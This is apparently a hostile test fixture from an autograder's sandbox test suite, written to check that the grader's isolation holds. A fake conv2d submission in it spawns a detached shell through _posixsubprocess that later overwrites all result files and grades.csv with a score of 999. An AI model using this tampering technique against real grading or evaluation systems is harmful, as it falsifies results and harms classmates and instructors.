# Hostile fixture (issue 11): leaves a detached child (a shell in a new session, started through
# _posixsubprocess) that waits until the grader has finished and then rewrites its own results,
# a classmate's results and grades.csv. (Without isolation, and with processes allowed, this
# attack works: see tests/test_isolation.py.)
# Expected: the worker has taken fork_exec away ("starting a process" is recorded as forbidden).
# With processes allowed (tests of the OS layer), the child dies with the sandbox (bubblewrap:
# PID namespace + --die-with-parent; uid mode: every process of the worker's uid is killed).
# Nothing in the output folder changes after the grader returns; conv2d earns 0.
import os

import numpy as np

OUT_DIR = "__OUT_DIR__"
CHILD = f"""
trap '' HUP
sleep 1.5
for f in {OUT_DIR}/*.json {OUT_DIR}/grades.csv; do echo '{{"score": 999}}' > "$f"; done
echo late > {OUT_DIR}/pwned.txt
"""


def spawn(argv):
    import _posixsubprocess

    args = [os.fsencode(a) for a in argv]
    r, w = os.pipe()
    common = [args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True]
    try:
        pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
    except TypeError:
        pid = _posixsubprocess.fork_exec(*common, None, None, None, -1, None)
    os.close(w)
    os.read(r, 100)
    return pid


def conv2d(inputs, filters, strides, padding):
    try:
        spawn(["/bin/sh", "-c", CHILD])
    except Exception:
        pass
    return np.zeros((1, 1, 1, 1))
